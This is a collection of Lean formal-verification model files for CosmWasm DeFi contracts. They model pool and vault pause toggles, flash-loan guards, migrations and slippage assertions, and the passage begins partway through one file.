      | some s1 => step c s1 op

/-- a failed transaction leaves the state untouched -/
def apply (c : Cfg) (s : St) (op : Op) : St := (step c s op).getD s

def reach (c : Cfg) (s : St) (ops : List Op) : St := ops.foldl (apply c) s

end WW.VaultChain
