/-
  Pause switches (C17): the feature toggles of a pool (pair / 3pool) and of a vault, every entry path
  that reaches a gated handler, and the gate each handler consults — transcribed from

    terraswap_pair/src/contract.rs   (ExecuteMsg::Swap, ExecuteMsg::WithdrawLiquidity)
    terraswap_pair/src/commands.rs   (receive_cw20, provide_liquidity)
    stableswap_3pool/src/{contract,commands}.rs   (same shape)
    vault/src/execute/{deposit,flash_loan}.rs, vault/src/execute/receive/withdraw.rs, vault/src/contract.rs
    terraswap_router/src/operations.rs (a hop is a pair `Swap` / cw20 `Send{Swap}`)
    frontend_helper/src/contract.rs    (Deposit = pair `ProvideLiquidity`, reply propagates the error)
    vault_router/src/execute/flash_loan.rs (FlashLoan = vault `FlashLoan`)

  The three switches are `a b c`:  pools  a = deposits_enabled, b = withdrawals_enabled, c = swaps_enabled;
  vault a = deposit_enabled, b = withdraw_enabled, c = flash_loan_enabled.

  What the gated operation does once it is let through is *not* modelled here: it is a parameter
  `base : Path → Res Unit` (the outcome of the same call on the same pool with every switch on).  That the
  parameter does not take the switches as an argument is the frame statement.

  The vault has one piece of TRANSIENT state that the guards read: `LOAN_COUNTER` (state.rs), incremented by
  `flash_loan` before the borrower's callback is dispatched and decremented by `Callback::AfterTrade`.
  While it is non-zero (= inside a flash-loan callback) the handlers behave as follows (transcribed):

    deposit.rs        `!deposit_enabled → DepositsDisabled`, then `LOAN_COUNTER != 0 → DepositDuringLoan`
    flash_loan.rs     `!flash_loan_enabled → FlashLoansDisabled`, then `LOAN_COUNTER != 0 → Unauthorized`
    receive/withdraw.rs  `!withdraw_enabled → WithdrawsDisabled`; the counter is NOT read (a withdrawal
                      inside a callback is served from the vault's reduced balance)
    contract.rs Withdraw{}  `AssetMismatch` before anything else when the LP token is a cw20
    collect_protocol_fee.rs  reads neither a switch nor the counter
    update_config.rs  `owner != sender → Unauthorized` (the borrower is not the factory)
    callback/mod.rs   `sender != vault → ExternalCallback`

  MIGRATION (`Op.migrate`): the `migrate` entry point of pair / 3pool / vault (contract.rs of each) is a
  chain-level call made by the contract's wasm admin — every pool and vault is instantiated by its factory
  with `admin: Some(factory)`, and the factories' owner-only `MigratePair` / `MigrateTrio` / `MigrateVaults`
  send `WasmMsg::Migrate`.  All three handlers have the same shape (transcribed):

    check_contract_name;  stored cw2 version `>=` crate version → `MigrateInvalidVersion`;
    version-specific storage migrations (migrations.rs: pair `migrate_to_v110 / v120 / v130`, vault
    `migrate_to_v120`; the 3pool has none) — they rebuild `pair_info` / `Config` from the older layout and
    carry `feature_toggle` / the three `*_enabled` fields over field by field;
    `set_contract_version`.

  Whether the storage migration succeeds on the state at hand is not modelled (parameter `body`, taken from
  the never-paused twin world like `base`); what IS the model's statement: a migration — refused or accepted,
  from whichever version — writes no switch and nothing else of the modelled state.  (The vault's `migrate`
  also saves `LOAN_COUNTER = 0` first; a migration is a transaction of its own, between transactions the
  counter is 0 — `C17.reachable_loans` — so this is the identity on every reachable state.)

  `Op.inLoan` is a whole flash-loan transaction whose borrower sends one further vault message (`inner`)
  from inside its callback, either as a plain message (its error fails the whole transaction and
  everything is rolled back) or as a sub-message whose result the borrower records in `reply` (a failed
  sub-message is rolled back on its own and the loan goes on).
-/
import WW.Cw.Arith
namespace WW.Toggles
open WW

inductive Switch where
  | a | b | c
deriving DecidableEq, Repr

structure Flags where
  a : Bool
  b : Bool
  c : Bool
deriving DecidableEq, Repr

def Flags.allOn : Flags := ⟨true, true, true⟩

def Flags.get (f : Flags) : Switch → Bool
  | .a => f.a
  | .b => f.b
  | .c => f.c

def Flags.set (f : Flags) (s : Switch) (v : Bool) : Flags :=
  match s with
  | .a => { f with a := v }
  | .b => { f with b := v }
  | .c => { f with c := v }

inductive Family where
  | pair | trio | vault
deriving DecidableEq, Repr

/-- Every way of invoking an operation of a pool or a vault. -/
inductive Path where
  -- pair (constant product and stableswap share the code)
  | pairProvide          -- ExecuteMsg::ProvideLiquidity
  | helperDeposit        -- frontend_helper Deposit → ProvideLiquidity → incentive position
  | pairWithdrawHook     -- LP cw20 Send → Receive(WithdrawLiquidity)
  | pairWithdrawDirect   -- ExecuteMsg::WithdrawLiquidity {} (token-factory LP entry)
  | pairSwapNative       -- ExecuteMsg::Swap with a native offer
  | pairSwapCw20Hook     -- cw20 Send → Receive(Swap)
  | pairSwapDirectCw20   -- ExecuteMsg::Swap naming a cw20 offer asset
  | routerHopNative      -- router ExecuteSwapOperations, native offer → pair Swap
  | routerHopCw20        -- cw20 Send to the router → router Send{Swap} to the pair
  | routerTwoHop         -- two hops, the pool under test is the second one
  | pairCollectFees      -- ExecuteMsg::CollectProtocolFees (named by no switch)
  -- 3pool
  | trioProvide
  | trioWithdrawHook
  | trioWithdrawDirect
  | trioSwapNative
  | trioSwapCw20Hook
  | trioSwapDirectCw20
  | trioCollectFees
  -- vault
  | vaultDeposit         -- ExecuteMsg::Deposit
  | vaultWithdrawHook    -- LP cw20 Send → Receive(Withdraw)
  | vaultWithdrawDirect  -- ExecuteMsg::Withdraw {} (token-factory LP entry)
  | vaultFlashLoan       -- ExecuteMsg::FlashLoan
  | vaultRouterLoan      -- vault_router FlashLoan → vault FlashLoan
  | vaultCollectFees
  | vaultConfigStranger  -- ExecuteMsg::UpdateConfig (all switches off) sent by somebody who is not the owner
  | vaultCallbackExternal -- ExecuteMsg::Callback(AfterTrade) sent by somebody who is not the vault
  -- LP cw20 Send whose hook payload is not a hook message (empty, `{}`, an unknown variant): sending LP tokens to
  -- the pool / vault is the act of withdrawing, so the withdraw switch names these paths; the handler fails on
  -- parsing before it reads any switch
  | pairHookMalformed
  | trioHookMalformed
  | vaultHookMalformed
deriving DecidableEq, Repr

def Path.all : List Path :=
  [.pairProvide, .helperDeposit, .pairWithdrawHook, .pairWithdrawDirect, .pairSwapNative, .pairSwapCw20Hook,
   .pairSwapDirectCw20, .routerHopNative, .routerHopCw20, .routerTwoHop, .pairCollectFees,
   .trioProvide, .trioWithdrawHook, .trioWithdrawDirect, .trioSwapNative, .trioSwapCw20Hook,
   .trioSwapDirectCw20, .trioCollectFees,
   .vaultDeposit, .vaultWithdrawHook, .vaultWithdrawDirect, .vaultFlashLoan, .vaultRouterLoan, .vaultCollectFees,
   .vaultConfigStranger, .vaultCallbackExternal, .pairHookMalformed, .trioHookMalformed, .vaultHookMalformed]

def Path.family : Path → Family
  | .pairProvide | .helperDeposit | .pairWithdrawHook | .pairWithdrawDirect | .pairSwapNative
  | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20 | .routerTwoHop
  | .pairCollectFees | .pairHookMalformed => .pair
  | .trioProvide | .trioWithdrawHook | .trioWithdrawDirect | .trioSwapNative | .trioSwapCw20Hook
  | .trioSwapDirectCw20 | .trioCollectFees | .trioHookMalformed => .trio
  | .vaultDeposit | .vaultWithdrawHook | .vaultWithdrawDirect | .vaultFlashLoan | .vaultRouterLoan
  | .vaultCollectFees | .vaultConfigStranger | .vaultCallbackExternal | .vaultHookMalformed => .vault

/-- SPECIFICATION side: the operation (switch) a path is a way of invoking. -/
def Path.names : Path → Option Switch
  | .pairProvide | .helperDeposit | .trioProvide | .vaultDeposit => some .a
  | .pairWithdrawHook | .pairWithdrawDirect | .trioWithdrawHook | .trioWithdrawDirect
  | .vaultWithdrawHook | .vaultWithdrawDirect | .pairHookMalformed | .trioHookMalformed | .vaultHookMalformed => some .b
  | .pairSwapNative | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20
  | .routerTwoHop | .trioSwapNative | .trioSwapCw20Hook | .trioSwapDirectCw20
  | .vaultFlashLoan | .vaultRouterLoan => some .c
  | .pairCollectFees | .trioCollectFees | .vaultCollectFees | .vaultConfigStranger
  | .vaultCallbackExternal => none

/-- CODE side: the switch the handler reached through this path actually reads.  Note the two
    `…WithdrawDirect` pool entries: `ExecuteMsg::WithdrawLiquidity {}` goes straight to
    `commands::withdraw_liquidity`, which reads no switch (the vault's `withdraw` does). -/
def Path.consults : Path → Option Switch
  | .pairProvide | .helperDeposit | .trioProvide | .vaultDeposit => some .a
  | .pairWithdrawHook | .trioWithdrawHook | .vaultWithdrawHook | .vaultWithdrawDirect => some .b
  | .pairWithdrawDirect | .trioWithdrawDirect | .pairHookMalformed | .trioHookMalformed | .vaultHookMalformed => none
  | .pairSwapNative | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20
  | .routerTwoHop | .trioSwapNative | .trioSwapCw20Hook | .trioSwapDirectCw20
  | .vaultFlashLoan | .vaultRouterLoan => some .c
  | .pairCollectFees | .trioCollectFees | .vaultCollectFees | .vaultConfigStranger
  | .vaultCallbackExternal => none

/-- `gate p f = true` iff the handler's switch check lets the call through. -/
def gate (p : Path) (f : Flags) : Bool :=
  match p.consults with
  | none => true
  | some s => f.get s

/-- Guards of the entry point that do not look at the switches and reject the call outright:
    the direct withdraw entries demand funds in the LP *denom* (`AssetMismatch` when the LP token is a
    cw20: the denom compared against is `""`); a direct `Swap` naming a cw20 offer is `Unauthorized`;
    the vault's `UpdateConfig` from a non-owner is `Unauthorized`, its `Callback` from anybody but the
    vault itself is `ExternalCallback`. -/
def entryRejects (lpCw20 : Bool) : Path → Bool
  | .pairWithdrawDirect | .trioWithdrawDirect | .vaultWithdrawDirect => lpCw20
  | .pairSwapDirectCw20 | .trioSwapDirectCw20 => true
  | .vaultConfigStranger | .vaultCallbackExternal => true
  | .pairHookMalformed | .trioHookMalformed | .vaultHookMalformed => true
  | _ => false

/-- Guards that read the vault's `LOAN_COUNTER` (all of them come AFTER the handler's switch check):
    `deposit` → `DepositDuringLoan`, `flash_loan` → `Unauthorized` (direct or through the vault router).
    Withdrawals and fee collection do not read the counter; pools have no such state. -/
def loanRejects (loans : Nat) : Path → Bool
  | .vaultDeposit | .vaultFlashLoan | .vaultRouterLoan => loans != 0
  | _ => false

/-- The switch part of a pool's / vault's state. `lpCw20`: the LP token is a cw20 contract.
    `loans`: the vault's `LOAN_COUNTER` (0 between transactions; pools: always 0). -/
structure St where
  flags : Flags
  lpCw20 : Bool
  loans : Nat
deriving DecidableEq, Repr

/-- `instantiate`: every switch on, no loan running. In the default build a token-factory LP is refused
    (`TokenFactoryNotEnabled`), so every pool and vault that exists has a cw20 LP token. -/
def instantiate (tokenFactoryLp : Bool) : Res St :=
  if tokenFactoryLp then .err else .ok { flags := Flags.allOn, lpCw20 := true, loans := 0 }

/-- One call through an entry path. `base p` is what the operation does when nothing is paused.
    (Every guard answers with an error, so their relative order is not observable.) -/
def stepPath (base : Path → Res Unit) (s : St) (p : Path) : Res Unit :=
  if gate p s.flags = false then .err
  else if entryRejects s.lpCw20 p then .err
  else if loanRejects s.loans p then .err
  else base p

/-- the two ways of taking a flash loan -/
def Path.isLoan : Path → Bool
  | .vaultFlashLoan | .vaultRouterLoan => true
  | _ => false

/-- How the borrower sends the inner message from its callback. -/
inductive Mode where
  /-- a plain message: an error fails the whole transaction (everything is rolled back) -/
  | propagate
  /-- a sub-message with `reply_on: always`: an error rolls back the sub-message only, the borrower
      records the result and goes on to repay the loan -/
  | catch
deriving DecidableEq, Repr

/-- Un-modelled outcomes of a loan transaction with an inner message (taken from the never-paused twin
    world, like `base`). -/
structure LoanBase where
  /-- the inner message once every guard has let it through (the counter is 1 at that moment) -/
  inner : Res Unit
  /-- the rest of the transaction (repayment, `AfterTrade`, the router's completion) after the inner
      message took effect -/
  done : Res Unit
  /-- the rest of the transaction after the inner message failed and was caught (= the same loan
      around a message that fails) -/
  caught : Res Unit
deriving DecidableEq, Repr

/-- What a loan transaction with an inner message shows: the result of the transaction and — only if it
    committed, and only in `catch` mode — the inner result the borrower recorded. -/
structure LoanRes where
  tx : Res Unit
  inner : Option Bool
deriving DecidableEq, Repr

/-- the rest of the loan, given whether the inner message took effect -/
def finishLoan (r : Res Unit) (m : Mode) (innerOk : Bool) : LoanRes :=
  match r with
  | .ok () => ⟨.ok (), match m with | .catch => some innerOk | .propagate => none⟩
  | .err => ⟨.err, none⟩
  | .panic => ⟨.panic, none⟩

/-- A flash loan taken through `outer` whose borrower sends `inner` from inside the callback.
    `flash_loan` has passed its own guards and incremented the counter when `inner` arrives;
    `AfterTrade` decrements it again, a failed transaction is rolled back as a whole. -/
def stepInLoan (s : St) (outer inner : Path) (m : Mode) (lb : LoanBase) : LoanRes :=
  if outer.isLoan = false then ⟨.err, none⟩ else
  match stepPath (fun _ => .ok ()) s outer with
  | .ok () =>
    match stepPath (fun _ => lb.inner) { s with loans := s.loans + 1 } inner, m with
    | .ok (), _ => finishLoan lb.done m true
    | .err, .catch => finishLoan lb.caught m false
    | .err, .propagate => ⟨.err, none⟩
    | .panic, _ => ⟨.panic, none⟩
  | .err => ⟨.err, none⟩
  | .panic => ⟨.panic, none⟩

/-- a contract version `major.minor.patch` as cw2 stores it (plain triples, compared like `semver::Version`
    compares versions without pre-release tags) -/
structure Ver where
  major : Nat
  minor : Nat
  patch : Nat
deriving DecidableEq, Repr

/-- `a < b` in semver order -/
def Ver.lt (a b : Ver) : Bool :=
  a.major < b.major ||
    (a.major == b.major && (a.minor < b.minor || (a.minor == b.minor && a.patch < b.patch)))

inductive Op where
  /-- `UpdateConfig { feature_toggle: Some f }` by `owner` (= the factory) or by somebody else -/
  | setFlags (byOwner : Bool) (f : Flags)
  /-- a partial update: only the switches that are named change (the vault's `UpdateConfigParams`
      carries three `Option<bool>`; for a pool the caller completes the `FeatureToggle` struct with
      the current values) -/
  | setPartial (byOwner : Bool) (a b c : Option Bool)
  /-- an `UpdateConfig` that names no switch at all (it changes e.g. the fee collector address) -/
  | touch (byOwner : Bool)
  | call (p : Path)
  /-- a flash loan through `outer` with the message `inner` sent from inside the borrower's callback -/
  | inLoan (outer inner : Path) (m : Mode) (lb : LoanBase)
  /-- the `migrate` entry point, called by the wasm admin (`byAdmin`; the chain refuses anybody else, the
      factories refuse anybody but their owner) on a contract whose stored cw2 version is `stored`, with
      the code of crate version `crate`; `body` = the outcome of the version-specific storage migration
      (un-modelled, from the twin world) -/
  | migrate (byAdmin : Bool) (stored crate : Ver) (body : Res Unit)
deriving DecidableEq, Repr

/-- the outcome of a migration: only the admin, only from a LOWER stored version, then the storage
    migration decides -/
def migrateRes (byAdmin : Bool) (stored crate : Ver) (body : Res Unit) : Res Unit :=
  if byAdmin = false then .err
  else if stored.lt crate = false then .err
  else body

/-- The switch state after an operation; a call never writes the switches, and neither does a migration. -/
def step (base : Path → Res Unit) (s : St) : Op → Res St
  | .setFlags byOwner f => if byOwner then .ok { s with flags := f } else .err
  | .setPartial byOwner a b c =>
    if byOwner then
      .ok { s with flags := ⟨a.getD s.flags.a, b.getD s.flags.b, c.getD s.flags.c⟩ }
    else .err
  | .touch byOwner => if byOwner then .ok s else .err
  | .call p =>
    match stepPath base s p with
    | .ok () => .ok s
    | .err => .err
    | .panic => .panic
  | .inLoan outer inner m lb =>
    -- committed: `AfterTrade` has brought the counter back; the switches are not written (the only
    -- writer, `update_config`, refuses the borrower)
    match (stepInLoan s outer inner m lb).tx with
    | .ok () => .ok s
    | .err => .err
    | .panic => .panic
  | .migrate byAdmin stored crate body =>
    -- accepted or refused, from whichever version: no switch is written
    match migrateRes byAdmin stored crate body with
    | .ok () => .ok s
    | .err => .err
    | .panic => .panic

/-- run a history; a failed operation leaves the state as it was -/
def reach (base : Path → Res Unit) (s : St) : List Op → St
  | [] => s
  | op :: ops =>
    match step base s op with
    | .ok s' => reach base s' ops
    | _ => reach base s ops

end WW.Toggles
