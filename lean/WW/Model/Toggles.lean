/-
  Pause switches (C17): the feature toggles of a pool (pair / 3pool) and of a vault, every entry path
  that reaches a gated handler, and the gate each handler consults — transcribed from

    terraswap_pair/src/contract.rs   (ExecuteMsg::Swap, ExecuteMsg::WithdrawLiquidity)
    terraswap_pair/src/commands.rs   (receive_cw20, provide_liquidity)
    stableswap_3pool/src/{contract,commands}.rs   (same shape)
    vault/src/execute/{deposit,flash_loan}.rs, vault/src/execute/receive/withdraw.rs, vault/src/contract.rs
    terraswap_router/src/operations.rs (a hop is a pair `Swap` / cw20 `Send{Swap}`)
    frontend_helper/src/contract.rs    (Deposit = pair `ProvideLiquidity`, reply propagates the error)
    vault_router/src/execute/flash_loan.rs (FlashLoan = vault `FlashLoan`)

  The three switches are `a b c`:  pools  a = deposits_enabled, b = withdrawals_enabled, c = swaps_enabled;
  vault a = deposit_enabled, b = withdraw_enabled, c = flash_loan_enabled.

  What the gated operation does once it is let through is *not* modelled here: it is a parameter
  `base : Path → Res Unit` (the outcome of the same call on the same pool with every switch on).  That the
  parameter does not take the switches as an argument is the frame statement.
-/
import WW.Cw.Arith
namespace WW.Toggles
open WW

inductive Switch where
  | a | b | c
deriving DecidableEq, Repr

structure Flags where
  a : Bool
  b : Bool
  c : Bool
deriving DecidableEq, Repr

def Flags.allOn : Flags := ⟨true, true, true⟩

def Flags.get (f : Flags) : Switch → Bool
  | .a => f.a
  | .b => f.b
  | .c => f.c

def Flags.set (f : Flags) (s : Switch) (v : Bool) : Flags :=
  match s with
  | .a => { f with a := v }
  | .b => { f with b := v }
  | .c => { f with c := v }

inductive Family where
  | pair | trio | vault
deriving DecidableEq, Repr

/-- Every way of invoking an operation of a pool or a vault. -/
inductive Path where
  -- pair (constant product and stableswap share the code)
  | pairProvide          -- ExecuteMsg::ProvideLiquidity
  | helperDeposit        -- frontend_helper Deposit → ProvideLiquidity → incentive position
  | pairWithdrawHook     -- LP cw20 Send → Receive(WithdrawLiquidity)
  | pairWithdrawDirect   -- ExecuteMsg::WithdrawLiquidity {} (token-factory LP entry)
  | pairSwapNative       -- ExecuteMsg::Swap with a native offer
  | pairSwapCw20Hook     -- cw20 Send → Receive(Swap)
  | pairSwapDirectCw20   -- ExecuteMsg::Swap naming a cw20 offer asset
  | routerHopNative      -- router ExecuteSwapOperations, native offer → pair Swap
  | routerHopCw20        -- cw20 Send to the router → router Send{Swap} to the pair
  | routerTwoHop         -- two hops, the pool under test is the second one
  | pairCollectFees      -- ExecuteMsg::CollectProtocolFees (named by no switch)
  -- 3pool
  | trioProvide
  | trioWithdrawHook
  | trioWithdrawDirect
  | trioSwapNative
  | trioSwapCw20Hook
  | trioSwapDirectCw20
  | trioCollectFees
  -- vault
  | vaultDeposit         -- ExecuteMsg::Deposit
  | vaultWithdrawHook    -- LP cw20 Send → Receive(Withdraw)
  | vaultWithdrawDirect  -- ExecuteMsg::Withdraw {} (token-factory LP entry)
  | vaultFlashLoan       -- ExecuteMsg::FlashLoan
  | vaultRouterLoan      -- vault_router FlashLoan → vault FlashLoan
  | vaultCollectFees
deriving DecidableEq, Repr

def Path.all : List Path :=
  [.pairProvide, .helperDeposit, .pairWithdrawHook, .pairWithdrawDirect, .pairSwapNative, .pairSwapCw20Hook,
   .pairSwapDirectCw20, .routerHopNative, .routerHopCw20, .routerTwoHop, .pairCollectFees,
   .trioProvide, .trioWithdrawHook, .trioWithdrawDirect, .trioSwapNative, .trioSwapCw20Hook,
   .trioSwapDirectCw20, .trioCollectFees,
   .vaultDeposit, .vaultWithdrawHook, .vaultWithdrawDirect, .vaultFlashLoan, .vaultRouterLoan, .vaultCollectFees]

def Path.family : Path → Family
  | .pairProvide | .helperDeposit | .pairWithdrawHook | .pairWithdrawDirect | .pairSwapNative
  | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20 | .routerTwoHop
  | .pairCollectFees => .pair
  | .trioProvide | .trioWithdrawHook | .trioWithdrawDirect | .trioSwapNative | .trioSwapCw20Hook
  | .trioSwapDirectCw20 | .trioCollectFees => .trio
  | .vaultDeposit | .vaultWithdrawHook | .vaultWithdrawDirect | .vaultFlashLoan | .vaultRouterLoan
  | .vaultCollectFees => .vault

/-- SPECIFICATION side: the operation (switch) a path is a way of invoking. -/
def Path.names : Path → Option Switch
  | .pairProvide | .helperDeposit | .trioProvide | .vaultDeposit => some .a
  | .pairWithdrawHook | .pairWithdrawDirect | .trioWithdrawHook | .trioWithdrawDirect
  | .vaultWithdrawHook | .vaultWithdrawDirect => some .b
  | .pairSwapNative | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20
  | .routerTwoHop | .trioSwapNative | .trioSwapCw20Hook | .trioSwapDirectCw20
  | .vaultFlashLoan | .vaultRouterLoan => some .c
  | .pairCollectFees | .trioCollectFees | .vaultCollectFees => none

/-- CODE side: the switch the handler reached through this path actually reads.  Note the two
    `…WithdrawDirect` pool entries: `ExecuteMsg::WithdrawLiquidity {}` goes straight to
    `commands::withdraw_liquidity`, which reads no switch (the vault's `withdraw` does). -/
def Path.consults : Path → Option Switch
  | .pairProvide | .helperDeposit | .trioProvide | .vaultDeposit => some .a
  | .pairWithdrawHook | .trioWithdrawHook | .vaultWithdrawHook | .vaultWithdrawDirect => some .b
  | .pairWithdrawDirect | .trioWithdrawDirect => none
  | .pairSwapNative | .pairSwapCw20Hook | .pairSwapDirectCw20 | .routerHopNative | .routerHopCw20
  | .routerTwoHop | .trioSwapNative | .trioSwapCw20Hook | .trioSwapDirectCw20
  | .vaultFlashLoan | .vaultRouterLoan => some .c
  | .pairCollectFees | .trioCollectFees | .vaultCollectFees => none

/-- `gate p f = true` iff the handler's switch check lets the call through. -/
def gate (p : Path) (f : Flags) : Bool :=
  match p.consults with
  | none => true
  | some s => f.get s

/-- Guards of the entry point that do not look at the switches and reject the call outright:
    the direct withdraw entries demand funds in the LP *denom* (`AssetMismatch` when the LP token is a
    cw20: the denom compared against is `""`); a direct `Swap` naming a cw20 offer is `Unauthorized`. -/
def entryRejects (lpCw20 : Bool) : Path → Bool
  | .pairWithdrawDirect | .trioWithdrawDirect | .vaultWithdrawDirect => lpCw20
  | .pairSwapDirectCw20 | .trioSwapDirectCw20 => true
  | _ => false

/-- The switch part of a pool's / vault's state. `lpCw20`: the LP token is a cw20 contract. -/
structure St where
  flags : Flags
  lpCw20 : Bool
deriving DecidableEq, Repr

/-- `instantiate`: every switch on. In the default build a token-factory LP is refused
    (`TokenFactoryNotEnabled`), so every pool and vault that exists has a cw20 LP token. -/
def instantiate (tokenFactoryLp : Bool) : Res St :=
  if tokenFactoryLp then .err else .ok { flags := Flags.allOn, lpCw20 := true }

/-- One call through an entry path. `base p` is what the operation does when nothing is paused. -/
def stepPath (base : Path → Res Unit) (s : St) (p : Path) : Res Unit :=
  if gate p s.flags = false then .err
  else if entryRejects s.lpCw20 p then .err
  else base p

inductive Op where
  /-- `UpdateConfig { feature_toggle: Some f }` by `owner` (= the factory) or by somebody else -/
  | setFlags (byOwner : Bool) (f : Flags)
  /-- a partial update: only the switches that are named change (the vault's `UpdateConfigParams`
      carries three `Option<bool>`; for a pool the caller completes the `FeatureToggle` struct with
      the current values) -/
  | setPartial (byOwner : Bool) (a b c : Option Bool)
  /-- an `UpdateConfig` that names no switch at all (it changes e.g. the fee collector address) -/
  | touch (byOwner : Bool)
  | call (p : Path)
deriving DecidableEq, Repr

/-- The switch state after an operation; a call never writes the switches. -/
def step (base : Path → Res Unit) (s : St) : Op → Res St
  | .setFlags byOwner f => if byOwner then .ok { s with flags := f } else .err
  | .setPartial byOwner a b c =>
    if byOwner then
      .ok { s with flags := ⟨a.getD s.flags.a, b.getD s.flags.b, c.getD s.flags.c⟩ }
    else .err
  | .touch byOwner => if byOwner then .ok s else .err
  | .call p =>
    match stepPath base s p with
    | .ok () => .ok s
    | .err => .err
    | .panic => .panic

/-- run a history; a failed operation leaves the state as it was -/
def reach (base : Path → Res Unit) (s : St) : List Op → St
  | [] => s
  | op :: ops =>
    match step base s op with
    | .ok s' => reach base s' ops
    | _ => reach base s ops

end WW.Toggles
