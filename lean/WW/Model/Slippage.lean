/-
  Replicas of the slippage / minimum-receive assertions (C15), over `Decimal` / `Decimal256`
  atomics (18 decimals), with every point at which the Rust returns `Err` or panics:

  * `assertMaxSpread`        – `white_whale_std::pool_network::swap::assert_max_spread`
  * `pairAssertSlippage`     – `terraswap_pair::helpers::assert_slippage_tolerance`
                               (arms `PairType::ConstantProduct` and `PairType::StableSwap`)
  * `trioAssertSlippage`     – `stableswap_3pool::helpers::assert_slippage_tolerance`
  * `assertMinimumReceive`   – `terraswap_router::contract::assert_minimum_receive`
                               (on the balance the `AssetInfo::query_pool` call returned)

  Amount arguments are `Uint128` values in the Rust (the model takes `Nat`; the theorems carry the
  `≤ U128MAX` hypotheses where they matter), `Option<Decimal>` arguments are `Option Nat` atomics.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW

/-- `max_spread.unwrap_or(DEFAULT_SLIPPAGE).min(MAX_ALLOWED_SLIPPAGE)` (then widened to Decimal256) -/
def effSpread (maxSpread : Option Nat) : Nat :=
  Nat.min (maxSpread.getD Gen.SWAP_DEFAULT_SLIPPAGE) Gen.SWAP_MAX_ALLOWED_SLIPPAGE

/-- `assert_max_spread(belief_price, max_spread, offer_amount, return_amount, spread_amount)`.
    `ret` is what the caller passes as `return_amount` (the pair and the trio pass proceeds + fees). -/
def assertMaxSpread (belief maxSpread : Option Nat) (offer ret spread : Nat) : Res Unit :=
  let ms := effSpread maxSpread
  match belief with
  | some p =>
    -- belief_price.inv().ok_or_else(|| generic_err("Belief price can't be zero"))?
    match decInv p with
    | none => .err
    | some inv => do
      -- offer_amount * inv   (Uint128 * Decimal: multiply_ratio, panics on overflow)
      let expected ← u128MulDec offer inv
      -- expected_return.saturating_sub(return_amount)
      let sp := expected - ret
      -- `return_amount < expected_return && from_ratio(spread, expected) > max_spread` (short-circuit)
      if ret < expected then do
        let r ← dec256FromRatio sp expected
        if r > ms then .err else .ok ()
      else .ok ()
  | none => do
    -- return_amount + spread_amount  (unchecked Uint128 add), from_ratio panics on a zero denominator
    let den ← padd U128MAX ret spread
    let r ← dec256FromRatio spread den
    if r > ms then .err else .ok ()

/-- pool type of the two-asset pair, as far as the assertion looks at it -/
inductive PoolKind where
  | constantProduct
  | stableSwap
deriving Repr, DecidableEq

/-- pair `assert_slippage_tolerance(&slippage_tolerance, &deposits, &pools, pair_type, amount, pool_token_supply)` -/
def pairAssertSlippage (tol : Option Nat) (d0 d1 p0 p1 : Nat) (kind : PoolKind) (amount supply : Nat) :
    Res Unit :=
  match tol with
  | none => .ok ()
  | some t =>
    -- slippage_tolerance > Decimal256::one()  =>  Err("slippage_tolerance cannot bigger than 1")
    if t > E18 then .err else do
    -- Decimal256::one() - slippage_tolerance  (unchecked)
    let om ← psub E18 t
    match kind with
    | .stableSwap => do
      let pt ← cadd U256MAX p0 p1
      let dt ← cadd U256MAX d0 d1
      let pr ← dec256FromRatio pt supply
      let dr ← dec256FromRatio dt amount
      let lhs ← dec256Mul pr om
      if lhs > dr then .err else .ok ()
    | .constantProduct => do
      -- `A || B` : A is evaluated completely first; B only when A is false
      let a ← dec256FromRatio d0 d1
      let a' ← dec256Mul a om
      let b ← dec256FromRatio p0 p1
      if a' > b then .err else do
      let c ← dec256FromRatio d1 d0
      let c' ← dec256Mul c om
      let d ← dec256FromRatio p1 p0
      if c' > d then .err else .ok ()

/-- 3pool `assert_slippage_tolerance(&slippage_tolerance, &deposits, &pools, amount, pool_token_supply)` -/
def trioAssertSlippage (tol : Option Nat) (d0 d1 d2 p0 p1 p2 amount supply : Nat) : Res Unit :=
  match tol with
  | none => .ok ()
  | some t =>
    if t > E18 then .err else do
    let om ← psub E18 t
    let pt ← cadd U256MAX p0 p1
    let pt ← cadd U256MAX pt p2
    let dt ← cadd U256MAX d0 d1
    let dt ← cadd U256MAX dt d2
    let pr ← dec256FromRatio pt supply
    let dr ← dec256FromRatio dt amount
    let lhs ← dec256Mul pr om
    if lhs > dr then .err else .ok ()

/-- router `assert_minimum_receive`: `cur` is the receiver's balance of the final asset now,
    `prev` the balance recorded by `execute_swap_operations` before the hops ran. -/
def assertMinimumReceive (prev minimum cur : Nat) : Res Unit := do
  -- receiver_balance.checked_sub(prev_balance)?
  let swapAmount ← csub cur prev
  if swapAmount < minimum then .err else .ok ()

end WW
