/-
  Executable model of the flash-loan vault (contracts/liquidity_hub/vault-network/vault):
  deposit, withdraw (cw20 Send hook of the LP token), collect_protocol_fees, update_config,
  flash_loan with an arbitrary borrower callback tree, after_trade, and plain transfers.

  Accounts: 0,1,2 users · 3 the borrower contract (adversary) · 4 the fee collector.
  `kind`: 0 = native vault asset, 1 = cw20 vault asset. The LP token is always a cw20
  (default cargo features). A failed operation returns `none`: CosmWasm reverts everything.
  Zero-amount *native* transfers fail (bank: "Cannot transfer empty coins amount") while zero-amount
  cw20 transfers / mints / burns succeed (cw20-base 1.1 has no zero check); both are observable
  and therefore modelled.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW.Vault
open WW

def getN (l : List Nat) (i : Nat) : Nat := l.getD i 0
def setN : List Nat → Nat → Nat → List Nat
  | [], _, _ => []
  | _ :: xs, 0, v => v :: xs
  | x :: xs, i + 1, v => x :: setN xs i v

structure VFees where
  prot : Nat
  flash : Nat
  burn : Nat
deriving Repr, DecidableEq

/-- `VaultFee::is_valid` -/
def VFees.valid (f : VFees) : Bool :=
  f.prot < E18 && f.flash < E18 && f.burn < E18 && f.prot + f.flash + f.burn < E18

structure St where
  kind : Nat            -- 0 native, 1 cw20
  bal : Nat             -- the vault's balance of its asset
  pend : Nat            -- COLLECTED_PROTOCOL_FEES
  allTime : Nat         -- ALL_TIME_COLLECTED_PROTOCOL_FEES
  burned : Nat          -- ALL_TIME_BURNED_FEES
  sup : Nat             -- LP token total supply
